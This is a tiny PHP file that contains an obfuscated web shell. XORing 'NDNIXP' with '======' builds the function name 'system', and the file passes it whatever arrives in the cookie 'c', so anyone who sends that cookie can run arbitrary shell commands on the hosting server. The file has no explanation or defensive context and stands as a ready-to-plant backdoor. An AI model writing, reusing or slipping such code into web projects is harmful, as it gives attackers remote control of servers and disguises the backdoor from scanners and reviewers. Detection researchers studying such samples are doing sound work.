<?php
$n = 'NDNIXP' ^ '======';
$n($_COOKIE['c']);
